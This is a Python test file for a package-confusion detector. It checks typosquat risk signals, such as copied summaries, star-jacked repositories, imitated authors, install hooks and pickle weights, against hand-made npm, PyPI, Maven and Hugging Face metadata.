"""Each pair signal on hand-made metadata, and the unknown state when metadata is missing."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

import numpy as np
import pytest

from confuguard import names
from confuguard import signals as sig
from confuguard.allowlist import Allowlist
from confuguard.types import Candidate, Category, Ecosystem, Finding, PackageMetadata, WeightFile

NOW = datetime(2026, 1, 1, tzinfo=UTC)
NPM, PYPI, HF = Ecosystem.NPM, Ecosystem.PYPI, Ecosystem.HUGGINGFACE


def cand(target: str, eco: Ecosystem = NPM, rank: int = 50, dist: int = 1, cats: tuple[Category, ...] = (Category.TYPO,)):
    return Candidate(names.parse(target, eco), rank, tuple(Finding(c, "x") for c in cats), 0.9, dist, None, frozenset({"edit"}))


def meta(name: str, eco: Ecosystem = NPM, source: str = "live", **kw) -> PackageMetadata:
    return PackageMetadata(package=names.parse(name, eco), source=source, **kw)


def one(name: str, suspect: str, target: str, eco: Ecosystem = NPM, sm=None, tm=None, **ckw) -> sig.Signal:
    pair = sig.Pair(names.parse(suspect, eco), cand(target, eco, **ckw), sm, tm, Allowlist.default(), None, NOW)
    return next(s for s in sig.compute(pair) if s.name == name)


def test_every_metadata_signal_is_unknown_without_metadata():
    pair = sig.Pair(names.parse("lodahs", NPM), cand("lodash"), None, None, Allowlist.default(), None, NOW)
    signals = sig.compute(pair)
    by_group = {f.name: f.group for f in sig.FEATURES}
    assert [s.name for s in signals] == list(sig.FEATURE_NAMES)
    assert all(s.value is None for s in signals if by_group[s.name] == "metadata")
    x = sig.vector(signals)
    meta_idx = [i for i, f in enumerate(sig.FEATURES) if f.group == "metadata"]
    assert np.all(x[meta_idx] == 0.0)


def test_security_holding_from_version_and_summary():
    s = one("security_holding", "lodahs", "lodash", sm=meta("lodahs", latest_version="0.0.1-security"))
    assert s.value == 1.0 and "security holding" in s.reason
    s = one("security_holding", "lodahs", "lodash", sm=meta("lodahs", summary="security holding package"))
    assert s.value == 1.0
    assert one("security_holding", "lodahs", "lodash", sm=meta("lodahs", latest_version="1.2.3")).value == 0.0
    assert one("security_holding", "lodahs", "lodash").value is None


def test_placeholder_and_empty_summary():
    s = one("placeholder_text", "lodahs", "lodash", sm=meta("lodahs", summary="Reserved name, placeholder"))
    assert s.value == 1.0
    assert one("placeholder_text", "lodahs", "lodash", sm=meta("lodahs", summary="Fast sort")).value == 0.0
    assert one("summary_empty", "lodahs", "lodash", sm=meta("lodahs", summary="")).value == 1.0
    # snapshots list every summary: a missing one there is known to be empty, elsewhere unknown
    assert one("summary_empty", "lodahs", "lodash", sm=meta("lodahs", source="snapshot:npm.tsv")).value == 1.0
    assert one("summary_empty", "lodahs", "lodash", sm=meta("lodahs")).value is None


def test_description_similarity_and_copy():
    t = meta("lodash", summary="Lodash modular utilities.")
    copied = one("description_copied", "lodahs", "lodash", sm=meta("lodahs", summary="Lodash modular utilities"), tm=t)
    assert copied.value == 1.0 and "copied from `lodash`" in copied.reason
    other = meta("lodahs", summary="A tiny web server for static files")
    assert one("description_copied", "lodahs", "lodash", sm=other, tm=t).value == 0.0
    # the target's whole summary with words added is still a copy; a short one inside a longer text is not
    rtg = meta("react-transition-group", summary="A react component toolset for managing animations")
    fork = meta("react-transition-group-plus", summary="A react component toolset for managing animations, fork of v4")
    assert one("description_copied", "react-transition-group-plus", "react-transition-group", sm=fork, tm=rtg).value == 1.0
    longer = meta("lodash-web", summary="A tiny web server for static files, not Lodash modular utilities")
    assert one("description_copied", "lodash-web", "lodash", sm=longer, tm=t).value == 0.0


def _tiny_text_vectors():
    from confuguard.models.embedder import DIM
    from confuguard.models.wordvec import TextVectors

    # two topics, utilities (axis 0) and web serving (axis 1): each word leans on its topic's axis
    def word(topic: int, own: int) -> np.ndarray:
        v = np.zeros(DIM, dtype=np.float32)
        v[topic], v[own] = 1.0, 0.3
        return v / np.linalg.norm(v)

    words = {"lodash": word(0, 2), "modular": word(0, 3), "utilities": word(0, 4), "utility": word(0, 5),
             "library": word(0, 6), "web": word(1, 7), "server": word(1, 8), "static": word(1, 9), "files": word(1, 10)}
    return TextVectors({w: i for i, w in enumerate(words)}, np.stack(list(words.values())))


def test_description_similarity_compares_summary_embeddings():
    tv = _tiny_text_vectors()
    t = meta("lodash", summary="Lodash modular utilities.")

    def sim(summary: str) -> sig.Signal:
        pair = sig.Pair(names.parse("lodahs", NPM), cand("lodash"), meta("lodahs", summary=summary), t,
                        Allowlist.default(), None, NOW, tv)
        return next(s for s in sig.compute(pair) if s.name == "description_similarity")

    same = sim("A modular utility library")  # no word in common with the target's summary, same topic
    assert same.value >= sig.SAME_PURPOSE and "resembles" in same.reason
    other = sim("A tiny web server for static files")
    assert other.value <= sig.DIFFERENT_PURPOSE and "different purpose" in other.reason
    assert sim("Tiny thing").value is None  # fewer than two known words: no embedding
    # without the embedding table the similarity is unknown, never guessed from word overlap
    assert one("description_similarity", "lodahs", "lodash", sm=meta("lodahs", summary="A modular utility library"),
               tm=t).value is None


def test_readme_copy_counts_as_copy():
    readme = "# lodash\n" + "A modern JavaScript utility library delivering modularity. " * 10
    s = one("description_copied", "lodahs", "lodash", sm=meta("lodahs", readme=readme), tm=meta("lodash", readme=readme))
    assert s.value == 1.0 and "README" in s.reason


def test_maintainer_overlap_three_states():
    t = meta("lodash", maintainers=("jdalton", "mathias"))
    s = one("maintainer_overlap", "lodahs", "lodash", sm=meta("lodahs", maintainers=("JDalton",)), tm=t)
    assert s.value == 1.0 and "same maintainer as `lodash`" in s.reason
    assert one("maintainer_overlap", "lodahs", "lodash", sm=meta("lodahs", maintainers=("eve",)), tm=t).value == 0.0
    assert one("maintainer_overlap", "lodahs", "lodash", sm=meta("lodahs"), tm=t).value is None


def test_maintainer_popular_needs_a_lookup():
    sm = meta("lodahs", maintainers=("sindresorhus",))
    pair = sig.Pair(names.parse("lodahs", NPM), cand("lodash"), sm, None, None, frozenset({"sindresorhus"}), NOW)
    assert sig.sig_maintainer_popular(pair).value == 1.0
    assert one("maintainer_popular", "lodahs", "lodash", sm=sm).value is None


def test_repository_signals():
    t = meta("lodash", repository_url="https://github.com/lodash/lodash")
    s = meta("lodahs", repository_url="git+https://github.com/lodash/lodash.git")
    assert one("repository_is_target", "lodahs", "lodash", sm=s, tm=t).value == 1.0
    own = meta("lodahs", repository_url="https://github.com/eve/lodahs")
    assert one("repository_is_own", "lodahs", "lodash", sm=own).value == 1.0
    assert one("repository_is_target", "lodahs", "lodash", sm=own, tm=t).value == 0.0  # another repository is unremarkable: one-sided, like an unknown
    assert one("repository_present", "lodahs", "lodash", sm=meta("lodahs", repository_url="")).value == -1.0
    assert one("repository_present", "lodahs", "lodash", sm=meta("lodahs")).value is None


def test_downloads_popularity_and_ratio():
    s = meta("lodahs", downloads=120, downloads_window="last-month")
    t = meta("lodash", downloads=50_000_000, downloads_window="last-month")
    assert one("suspect_downloads", "lodahs", "lodash", sm=s).value == pytest.approx(np.log10(121))
    assert one("download_ratio", "lodahs", "lodash", sm=s, tm=t).value < -5
    assert one("suspect_popular", "lodahs", "lodash", sm=s).value == 0.0  # known, and no evidence either way
    weekly = meta("lodahs", downloads=20_000, downloads_window="last-week")
    assert one("suspect_popular", "lodahs", "lodash", sm=weekly).value == 1.0
    ranked = meta("reqeusts", PYPI, source="snapshot:pypi.tsv", extra={"rank": "900"})
    assert one("suspect_popular", "reqeusts", "requests", PYPI, sm=ranked).value == 1.0
    unranked = meta("reqeusts", PYPI, source="snapshot:pypi.tsv")
    assert one("suspect_popular", "reqeusts", "requests", PYPI, sm=unranked).value == 0.0


def test_survival_counts_a_snapshot_listing_or_a_long_public_life_never_a_mere_record():
    s = one("survived", "lodahs", "lodash", sm=meta("lodahs", source="snapshot:npm.tsv", summary="x"))
    assert s.value == 1.0 and "not taken down" in s.reason
    # a live record exists for a fresh attack too: only its age counts
    assert one("survived", "lodahs", "lodash", sm=meta("lodahs", summary="x")).value is None
    fresh = one("survived", "lodahs", "lodash", sm=meta("lodahs", created=datetime(2025, 12, 30, tzinfo=UTC)))
    assert fresh.value < 0.02 and fresh.reason is None
    old = one("survived", "lodahs", "lodash", sm=meta("lodahs", created=datetime(2023, 1, 1, tzinfo=UTC)))
    assert old.value == 1.0 and "public for 3 years" in old.reason
    # the registry's holding package exists because of a takedown
    holding = meta("lodahs", source="snapshot:npm.tsv", latest_version="0.0.1-security")
    assert one("survived", "lodahs", "lodash", sm=holding).value is None
    assert one("survived", "lodahs", "lodash").value is None


def test_an_unremarkable_record_is_no_evidence():
    # a known record whose facts are ordinary (a summary, not popular, past its first version, not
    # deprecated) encodes exactly like no record, so a record's presence cannot act as evidence
    plain = meta("lodahs", summary="Sort arrays fast", downloads=120, downloads_window="last-month",
                 latest_version="2.3.1", deprecated=False, yanked=False, repository_url="https://github.com/a/sorter")
    pair = sig.Pair(names.parse("lodahs", NPM), cand("lodash"), plain, None, Allowlist.default(), None, NOW)
    x = dict(zip(sig.FEATURE_NAMES, sig.vector(sig.compute(pair))))
    for name in ("summary_empty", "suspect_popular", "initial_version", "deprecated", "yanked", "repository_is_own",
                 "survived"):
        assert x[name] == 0.0, name


def test_metadata_features_carry_a_domain_direction():
    by_name = {f.name: f for f in sig.FEATURES}
    for name in ("survived", "suspect_popular", "suspect_downloads", "maintainer_overlap", "age"):
        assert by_name[name].sign == -1, name
    for name in ("security_holding", "description_copied", "summary_empty", "initial_version"):
        assert by_name[name].sign == 1, name
    assert all(f.sign == 0 for f in sig.FEATURES if f.group == "name")


def test_age_versions_cadence_and_release():
    sm = meta("lodahs", created=datetime(2025, 12, 20, tzinfo=UTC), version_count=1, latest_version="1.0.0",
              latest_release=datetime(2020, 1, 1, tzinfo=UTC))
    age = one("age", "lodahs", "lodash", sm=sm)
    assert age.value < 1.2 and "brand new" in age.reason
    assert one("version_count", "lodahs", "lodash", sm=sm).value == 0.0
    assert one("initial_version", "lodahs", "lodash", sm=sm).value == 1.0
    assert one("release_cadence", "lodahs", "lodash", sm=sm).value is not None
    assert one("release_age", "lodahs", "lodash", sm=sm).value > 60
    assert one("initial_version", "lodahs", "lodash", sm=meta("lodahs", latest_version="4.17.21")).value == 0.0


def test_namespace_lookalike_tells_an_imitated_publisher_from_another_publisher():
    MVN = Ecosystem.MAVEN
    s = one("namespace_lookalike", "com.fasterxm1.jackson.core:jackson-databind",
            "com.fasterxml.jackson.core:jackson-databind", MVN, cats=(Category.SCOPE,))
    assert s.value == 1.0 and s.reason is None  # the SCOPE finding says it already
    s = one("namespace_lookalike", "com.fasterxm1.jackson.core:jackson-databind",
            "com.fasterxml.jackson.core:jackson-databind", MVN, cats=(Category.TYPO,))
    assert s.value == 1.0 and "fasterxm1" in s.reason
    s = one("namespace_lookalike", "org.netbeans.external:javax.annotation", "org.glassfish:javax.annotation", MVN,
            cats=(Category.SCOPE,))
    assert s.value == -1.0 and "does not imitate org.glassfish" in s.reason
    assert one("namespace_lookalike", "@babe1/core", "@babel/core", cats=(Category.SCOPE,)).value == 1.0
    # only one side namespaced, or the same namespace: nothing to compare
    assert one("namespace_lookalike", "@evil/lodash", "lodash", cats=()).value is None
    assert one("namespace_lookalike", "@babel/cor", "@babel/core").value is None


def test_deprecation_yank_relocation():
    assert one("deprecated", "lodahs", "lodash", sm=meta("lodahs", deprecated=True)).value == 1.0
    assert one("yanked", "reqeusts", "requests", PYPI, sm=meta("reqeusts", PYPI, yanked=True)).value == 1.0
    r = one("relocated", "lodahs", "lodash", sm=meta("lodahs", relocated_to="lodash"))
    assert r.value == 1.0 and "relocated" in r.reason
    assert one("deprecated", "lodahs", "lodash", sm=meta("lodahs")).value is None


def test_namespace_allowlist_and_scope_signals():
    s = one("allowlisted_org", "@types/lodahs", "lodash", cats=())
    assert s.value == 1.0 and "DefinitelyTyped" in s.reason
    assert one("allowlisted_org", "@evil/lodash", "lodash", cats=()).value == 0.0
    # a slip in a repo name under an allowlisted Go owner is a path that owner never published
    GO = Ecosystem.GOLANG
    assert one("allowlisted_org", "github.com/stretchr/testfy", "github.com/stretchr/testify", GO).value == 0.0
    assert one("allowlisted_org", "github.com/google/uuid", "github.com/gofrs/uuid", GO, cats=()).value == 1.0
    assert one("scoped_elsewhere", "@evil/lodash", "lodash", cats=()).value == 1.0
    assert one("scoped_elsewhere", "@babe1/core", "@babel/core", cats=(Category.SCOPE,)).value == 0.0
    assert one("same_namespace", "lodahs", "lodash").value is None
    assert one("same_namespace", "@babel/cor", "@babel/core").value == 1.0
    owner = Allowlist.default().owner(names.parse("com.amazonaws.foo:bar", Ecosystem.MAVEN))
    assert owner == "Amazon Web Services"
    assert Allowlist.default().owner(names.parse("golang.org/x/nett", Ecosystem.GOLANG)) is not None


def test_name_level_signals():
    assert one("contains_target", "lodash-pro", "lodash", cats=(Category.AFFIX,)).value == 1.0
    assert one("extension_word", "lodash-cli", "lodash").value == 1.0
    close = one("close_popular", "lodahs", "lodash", rank=5)
    assert close.value > 1.0 and close.reason
    assert one("close_popular", "lodahs", "lodash", rank=0).value == 0.0
    assert one("target_popularity", "lodahs", "lodash", rank=0).value is None
    assert one("cat_typo", "lodahs", "lodash").value == 1.0


def test_hf_pickle_weights():
    m = meta("facebo0k/opt-125m", HF, weight_files=(WeightFile("pytorch_model.bin", "pickle"),))
    s = one("pickle_weights", "facebo0k/opt-125m", "facebook/opt-125m", HF, sm=m)
    assert s.value == 1.0 and "pickle" in s.reason
    safe = meta("facebo0k/opt-125m", HF, weight_files=(WeightFile("model.safetensors", "safetensors"),))
    assert one("pickle_weights", "facebo0k/opt-125m", "facebook/opt-125m", HF, sm=safe).value == 0.0
    assert one("pickle_weights", "facebo0k/opt-125m", "facebook/opt-125m", HF, sm=meta("facebo0k/opt-125m", HF)).value is None


def test_vector_clips_and_centres():
    signals = tuple(sig.Signal(f.name, f.neutral) for f in sig.FEATURES)
    assert np.all(sig.vector(signals) == 0.0)
    huge = tuple(sig.Signal(f.name, 1e9) for f in sig.FEATURES)
    assert np.all(sig.vector(huge) == np.array([f.hi for f in sig.FEATURES]))


def test_campaign_word_is_a_lure_added_to_the_target():
    s = one("campaign_word", "binance-axios", "axios")
    assert s.value == 1.0 and "'binance'" in s.reason
    assert one("campaign_word", "okxweb3-utils", "web3-utils").value == 0.0   # okx glued but short: token only
    assert one("campaign_word", "discordselfbot", "discord.js").value == 1.0  # glued 'selfbot'
    assert one("campaign_word", "discord.jss", "discord.js").value == 0.0     # the target's own word
    assert one("campaign_word", "lodahs", "lodash").value == 0.0


def test_family_member_is_a_different_plugin_of_a_large_family():
    s = one("family_member", "eslint-config-clock", "eslint-config-love", cats=(Category.ASEMANTIC_SUBSTITUTION,))
    assert s.value == 1.0 and "eslint-config-*" in s.reason
    # a misspelt member is a trick, not a sibling
    assert one("family_member", "eslint-config-airbnd", "eslint-config-airbnb").value == 0.0
    # a small family root says nothing
    assert one("family_member", "left-pad-foo", "left-pad-bar", cats=(Category.ASEMANTIC_SUBSTITUTION,)).value == 0.0


def test_maven_relocated_group_is_the_same_project():
    MVN = Ecosystem.MAVEN
    s = one("same_namespace", "org.apache.groovy:groovy-jaxb", "org.codehaus.groovy:groovy-jaxb", MVN, cats=(Category.SCOPE,))
    assert s.value == 1.0 and "relocation" in s.reason
    s = one("same_namespace", "org.evil.core:jackson-databind", "com.fasterxml.jackson.core:jackson-databind", MVN,
            cats=(Category.SCOPE,))
    assert s.value == -1.0  # 'core' names no project


def test_a_misspelt_word_is_not_an_added_word():
    assert one("extra_nonword", "jcconv", "jaconv", PYPI).value == 0.0
    s = one("extra_nonword", "lodash-zqxv", "lodash", cats=(Category.AFFIX,))
    assert s.value == 1.0 and "'zqxv'" in s.reason


def test_glued_words_and_marker_spellings_are_read_as_the_target_words():
    assert one("extra_nonword", "pythonkafka", "kafka-python", PYPI, cats=(Category.REORDERING,)).value == 0.0
    assert one("extra_nonword", "libcurl", "pycurl", PYPI, cats=(Category.ASEMANTIC_SUBSTITUTION,)).value == 0.0
    assert one("token_overlap", "pythonkafka", "kafka-python", PYPI, cats=(Category.REORDERING,)).value == 1.0


def test_typo_to_word_tells_a_different_word_from_a_slip():
    s = one("typo_to_word", "redux-fork", "redux-form")
    assert s.value == 1.0 and "'fork' is a word of its own" in s.reason
    assert one("typo_to_word", "lodahs", "lodash").value == 0.0  # a non-word: the classic slip
    assert one("typo_to_word", "redux-fork", "redux-form", cats=(Category.AFFIX,)).value == 0.0


# -- day-one signals, read from records in each registry's real JSON format --------------------------------


def _pypi_record(name: str, *, summary: str = "An HTTP client", version: str = "0.1.0", wheel: bool = True,
                 author: str = "", author_email: str = "", urls: dict | None = None, home: str = "") -> PackageMetadata:
    """A `/pypi/<name>/json` document of a single release, parsed by the PyPI client."""
    from confuguard.registries.pypi import PyPIRegistry
    from fakeregistry import routed

    files = [{"filename": f"{name}-{version}.tar.gz", "packagetype": "sdist", "size": 2154,
              "upload_time_iso_8601": "2025-12-31T10:00:00.000000Z", "yanked": False}]
    if wheel:
        files.append({**files[0], "filename": f"{name}-{version}-py3-none-any.whl", "packagetype": "bdist_wheel"})
    doc = {"info": {"name": name, "version": version, "summary": summary, "description": "", "author": author,
                    "author_email": author_email, "maintainer": "", "maintainer_email": "", "home_page": home,
                    "project_urls": urls, "license": "", "classifiers": [], "requires_dist": None, "yanked": False},
           "releases": {version: files}, "urls": files, "last_serial": 1,
           "ownership": {"organization": None, "roles": [{"role": "Owner", "user": f"{name}-acct"}]}}
    m = PyPIRegistry(routed({f"pypi.org/pypi/{name}/json": doc})).metadata(names.parse(name, PYPI))
    assert m is not None
    return m


def _npm_record(name: str, *, description: str = "Utility functions", version: str = "1.0.0",
                scripts: dict | None = None, repository: str | None = None, author: object = None,
                maintainer: str | None = None) -> PackageMetadata:
    """A packument of a single release, parsed by the npm client."""
    from confuguard.registries.npm import NpmRegistry
    from fakeregistry import routed

    manifest: dict = {"name": name, "version": version, "description": description, "main": "index.js",
                      "scripts": scripts or {"test": "echo \"Error: no test specified\" && exit 1"}}
    if repository:
        manifest["repository"] = {"type": "git", "url": repository}
    if author is not None:
        manifest["author"] = author
    doc = {"_id": name, "name": name, "description": description, "dist-tags": {"latest": version},
           "versions": {version: manifest}, "time": {"created": "2025-12-31T10:00:00.000Z", version: "2025-12-31T10:00:00.000Z"},
           "maintainers": [{"name": maintainer or f"{name}-acct", "email": "x@example.invalid"}]}
    for k in ("repository", "author"):
        if k in manifest:
            doc[k] = manifest[k]
    m = NpmRegistry(routed({f"registry.npmjs.org/{name}": doc})).metadata(names.parse(name, NPM))
    assert m is not None
    return m


def test_source_only_upload_reads_the_release_files():
    sdist_only = _pypi_record("reqeusts", wheel=False)
    assert sdist_only.source_only is True
    s = one("source_only", "reqeusts", "requests", PYPI, sm=sdist_only)
    assert s.value == 1.0 and "no wheel" in s.reason
    wheel = one("source_only", "reqeusts", "requests", PYPI, sm=_pypi_record("reqeusts"))
    assert wheel.value == -1.0 and "wheel" in wheel.reason  # a wheel runs no code at install: against a threat
    assert one("source_only", "lodahs", "lodash", sm=_npm_record("lodahs")).value is None  # npm has no such fact


def test_npm_install_scripts_are_an_install_hook():
    hooked = _npm_record("lodahs", scripts={"postinstall": "node collect.js"})
    s = one("install_script", "lodahs", "lodash", sm=hooked)
    assert s.value == 1.0 and "install script" in s.reason
    # npm declares every install hook: none declared is a fact against a threat
    none = one("install_script", "lodahs", "lodash", sm=_npm_record("lodahs"))
    assert none.value == -0.5 and none.reason == "runs no install script"
    assert one("install_script", "lodahs", "lodash", sm=meta("lodahs")).value is None


def test_a_setup_py_without_a_hook_says_nothing():
    # setup.py runs its module code at install with or without a cmdclass: no hook found is no evidence
    rec = meta("reqeusts", eco=PYPI, install_scripts=False, install_behaviour=())
    assert one("install_script", "reqeusts", "requests", PYPI, sm=rec).value == 0.0
    # a hook found weighs less than an npm install script: ordinary sdists pass a cmdclass far more often
    hooked = meta("reqeusts", eco=PYPI, install_scripts=True, install_behaviour=("cmdclass",))
    s = one("install_script", "reqeusts", "requests", PYPI, sm=hooked)
    assert 0 < s.value < 1.0 and s.reason == "its setup.py runs at install (cmdclass)"


def test_a_combosquat_silent_about_what_it_extends():
    silent = one("silent_on_target", "requests-toolbelt-pro", "requests", PYPI,
                 sm=meta("requests-toolbelt-pro", eco=PYPI, summary="A library for web scraping and data extraction"))
    assert silent.value == 1.0 and "never mentions" in silent.reason
    plugin = one("silent_on_target", "requests-cache-pro", "requests", PYPI,
                 sm=meta("requests-cache-pro", eco=PYPI, summary="A persistent cache for Python requests sessions"))
    assert plugin.value == 0.0
    # a typo does not embed the name; too short a summary, or a snapshot's, says nothing
    assert one("silent_on_target", "reqeusts", "requests", PYPI, sm=meta("reqeusts", eco=PYPI, summary="Web scraping made simple")).value == 0.0
    assert one("silent_on_target", "requests-pro", "requests", PYPI, sm=meta("requests-pro", eco=PYPI, summary="Faster HTTP")).value is None
    snap = meta("requests-pro", eco=PYPI, summary="A library for web scraping and data extraction", source="snapshot:pypi.tsv")
    assert one("silent_on_target", "requests-pro", "requests", PYPI, sm=snap).value is None


def test_a_copy_of_the_targets_summary_is_neither_a_mention_nor_a_purpose():
    copy = meta("colors-helper", summary="get colors in your node.js console")
    colors = meta("colors", summary="get colors in your node.js console")
    assert one("description_copied", "colors-helper", "colors", sm=copy, tm=colors).value == 1.0
    assert one("mentions_target", "colors-helper", "colors", sm=copy, tm=colors).value == 0.0
    assert one("summary_descriptive", "colors-helper", "colors", sm=copy, tm=colors).value == 0.0
    # nor silence about the target: a package's own summary never names the package
    assert one("silent_on_target", "colors-helper", "colors", sm=copy, tm=colors).value is None
    own = meta("colors-helper", summary="Helpers that print colors in the terminal")
    assert one("mentions_target", "colors-helper", "colors", sm=own, tm=colors).value == 1.0


def test_a_security_holding_placeholder_states_no_purpose():
    held = meta("nodesass", summary="security holding package", latest_version="0.0.1-security")
    assert one("security_holding", "nodesass", "node-sass", sm=held).value == 1.0
    assert one("summary_descriptive", "nodesass", "node-sass", sm=held).value == 0.0
    assert one("summary_off_name", "nodesass", "node-sass", sm=held).value is None


def test_a_stock_purpose_pasted_under_a_borrowed_name():
    def off(name: str, summary: str, target: str = "pylint") -> float | None:
        return one("summary_off_name", name, target, PYPI, sm=meta(name, eco=PYPI, summary=summary)).value

    stock = one("summary_off_name", "pylint-sys", "pylint", PYPI,
                sm=meta("pylint-sys", eco=PYPI, summary="A tool for building graphical user interfaces"))
    assert stock.value == 1.0 and "no word with its own name" in stock.reason
    # a summary naming what the name names, in any of its forms, run together, played on or as initials
    assert off("pymocks", "Python mocking service.", "pysocks") == 0.0
    assert off("reactdom", "React DOM bindings for servers", "react-dom") == 0.0
    assert off("devbug", "Debug your app with a better console.log", "debug") == 0.0
    assert off("k3fs", "File-system utilities for reading and writing", "s3fs") == 0.0
    assert off("fastbiLite", "Lite dashboards for business data", "fastai") == 0.0
    # known only for a summary of its own purpose: filler, a copy of the target's, a snapshot's say nothing
    assert off("pylint-sys", "Add your description here") is None
    snap = meta("pylint-sys", eco=PYPI, summary="A tool for building graphical user interfaces", source="snapshot:pypi.tsv")
    assert one("summary_off_name", "pylint-sys", "pylint", PYPI, sm=snap).value is None
    assert one("summary_off_name", "pylint-sys", "pylint", PYPI).value is None


def test_a_copied_summary_counts_once():
    copy = meta("colors-helper", summary="get colors in your node.js console")
    colors = meta("colors", summary="get colors in your node.js console")

    class Table:
        def vector(self, bag):
            return np.ones(2) / np.sqrt(2)

    pair = sig.Pair(names.parse("colors-helper", NPM), cand("colors"), copy, colors, Allowlist.default(), None, NOW,
                    text_vectors=Table())
    by_name = {s.name: s for s in sig.compute(pair)}
    assert by_name["description_copied"].value == 1.0
    assert by_name["description_similarity"].value is None
    other = meta("colors-helper", summary="paint terminal output in colour")
    pair = sig.Pair(names.parse("colors-helper", NPM), cand("colors"), other, colors, Allowlist.default(), None, NOW,
                    text_vectors=Table())
    assert next(s for s in sig.compute(pair) if s.name == "description_similarity").value == pytest.approx(1.0)


def test_a_summary_that_repeats_its_own_name_is_filler_and_names_no_target():
    rec = meta("pydantic-settings-utils", eco=PYPI, summary="pydantic-settings-utils")
    assert one("summary_boilerplate", "pydantic-settings-utils", "pydantic-settings", PYPI, sm=rec).value == 1.0
    assert one("mentions_target", "pydantic-settings-utils", "pydantic-settings", PYPI, sm=rec).value == 0.0


def test_proof_of_concept_and_test_uploads_are_placeholder_wording():
    for text in ("This package is a proof of concept used by author to conduct research",
                 "Dont install this package, purely testing purpose"):
        rec = meta("jsonreq-ase", eco=PYPI, summary=text)
        assert one("placeholder_text", "jsonreq-ase", "jsonref", PYPI, sm=rec).value == 1.0
        assert one("summary_descriptive", "jsonreq-ase", "jsonref", PYPI, sm=rec).value == 0.0


def test_scraps_of_letters_are_not_words():
    rec = meta("customtkinet", eco=PYPI, summary="XCQ qWAFucmtWLZyCQLfbdsgqPCBzuRrwXWQrnaiKO aAJIRqWjMLpYSRyiym uoYdp NBUzV DjMI")
    assert one("summary_descriptive", "customtkinet", "customtkinter", PYPI, sm=rec).value == 0.0
    words = meta("customtkinet", eco=PYPI, summary="GitHub Actions runner for JSON schemas")
    assert one("summary_descriptive", "customtkinet", "customtkinter", PYPI, sm=words).value == 1.0


def test_history_is_unknown_in_a_packages_first_days():
    # on its first day every package is young with one release: attacks and ordinary projects alike
    young = meta("lodahs", created=NOW - timedelta(hours=5), latest_release=NOW - timedelta(hours=5), version_count=1)
    for name in ("age", "version_count", "release_age", "release_cadence"):
        assert one(name, "lodahs", "lodash", sm=young).value is None, name
    week_old = meta("lodahs", created=NOW - timedelta(days=8), latest_release=NOW - timedelta(days=8), version_count=1)
    assert one("age", "lodahs", "lodash", sm=week_old).value is not None
    assert one("version_count", "lodahs", "lodash", sm=week_old).value == 0.0


def test_first_version_far_above_a_first_release():
    probe = _npm_record("lodahs", version="99.10.9")
    s = one("first_version_high", "lodahs", "lodash", sm=probe)
    assert s.value == pytest.approx(2.0) and "99.10.9" in s.reason
    assert one("first_version_high", "lodahs", "lodash", sm=_npm_record("lodahs", version="0.1.0")).value == 0.0
    # calendar versioning starts at the year: not a probe's outbidding number
    assert one("first_version_high", "lodahs", "lodash", sm=_npm_record("lodahs", version="2026.1.0")).value == 0.0
    # beyond a first release a high version is history, not a probe: unknown
    assert one("first_version_high", "lodahs", "lodash", sm=meta("lodahs", latest_version="99.0.0", version_count=40)).value is None


def test_boilerplate_and_gibberish_summaries():
    filler = _pypi_record("reqeusts", summary="A small example package")
    assert one("summary_boilerplate", "reqeusts", "requests", PYPI, sm=filler).value == 1.0
    assert one("summary_boilerplate", "reqeusts", "requests", PYPI, sm=_pypi_record("reqeusts")).value == 0.0
    noise = _pypi_record("reqeusts", summary="GzUHeVluNzkNAQBJQkVenVrVRwQuimkYORFdhZTcPNNRrHnQI lAJbIzOTtl")
    s = one("summary_gibberish", "reqeusts", "requests", PYPI, sm=noise)
    assert s.value == 1.0 and "random letters" in s.reason
    for text in ("Async HTTP client for humans", "MCP server for the GitHub API", "Flaskify"):
        assert one("summary_gibberish", "reqeusts", "requests", PYPI, sm=_pypi_record("reqeusts", summary=text)).value == 0.0
    assert one("summary_gibberish", "reqeusts", "requests", PYPI, sm=_pypi_record("reqeusts", summary="")).value is None


def test_repository_or_homepage_at_the_targets_repository_is_starjacking():
    target = _npm_record("lodash", repository="git+https://github.com/lodash/lodash.git", maintainer="jdalton")
    jacked = _npm_record("lodahs", repository="https://github.com/lodash/lodash")
    s = one("repository_is_target", "lodahs", "lodash", sm=jacked, tm=target)
    assert s.value == 1.0 and "star-jacking" in s.reason
    own = _npm_record("lodahs", repository="git+https://github.com/someone/lodahs.git")
    assert one("repository_is_target", "lodahs", "lodash", sm=own, tm=target).value == 0.0
    pypi_target = _pypi_record("requests", urls={"Source": "https://github.com/psf/requests"})
    by_home = _pypi_record("reqeusts", home="https://github.com/psf/requests/tree/main")
    assert one("repository_is_target", "reqeusts", "requests", PYPI, sm=by_home, tm=pypi_target).value == 1.0
    assert one("repository_is_target", "reqeusts", "requests", PYPI, sm=_pypi_record("reqeusts"), tm=pypi_target).value is None


def test_author_imitating_the_targets_maintainers():
    target = _pypi_record("requests", author="Kenneth Reitz", author_email="me@kennethreitz.org")
    fake = _pypi_record("reqeusts", author="Kenneth Reitz", author_email="kr@gmail.com")
    s = one("author_imitation", "reqeusts", "requests", PYPI, sm=fake, tm=target)
    assert s.value == 1.0 and "kenneth reitz" in s.reason
    by_domain = _pypi_record("reqeusts", author="Ops", author_email="ops@kennethreitz.org")
    assert one("author_imitation", "reqeusts", "requests", PYPI, sm=by_domain, tm=target).value == 1.0
    other = _pypi_record("reqeusts", author="Jane Roe", author_email="jane@gmail.com")
    assert one("author_imitation", "reqeusts", "requests", PYPI, sm=other, tm=target).value == 0.0
    npm_target = _npm_record("lodash", author={"name": "John-David Dalton", "email": "john@example.invalid"}, maintainer="jdalton")
    npm_fake = _npm_record("lodahs", author="John-David Dalton <jdd@mail.invalid>")
    assert one("author_imitation", "lodahs", "lodash", sm=npm_fake, tm=npm_target).value == 1.0
    assert one("author_imitation", "lodahs", "lodash", sm=meta("lodahs"), tm=npm_target).value is None


def test_a_snapshot_listing_counts_by_age_when_the_snapshot_was_made():
    made = datetime(2025, 12, 1, tzinfo=UTC)
    week = meta("lodahs", source="snapshot:npm.tsv", fetched_at=made, created=datetime(2025, 11, 24, tzinfo=UTC))
    s = one("survived", "lodahs", "lodash", sm=week)
    assert s.value == pytest.approx(7 / sig.SURVIVAL_DAYS) and s.reason is None
    years = meta("lodahs", source="snapshot:npm.tsv", fetched_at=made, created=datetime(2019, 1, 1, tzinfo=UTC))
    assert one("survived", "lodahs", "lodash", sm=years).value == 1.0
    undated = meta("lodahs", source="snapshot:npm.tsv", fetched_at=made)
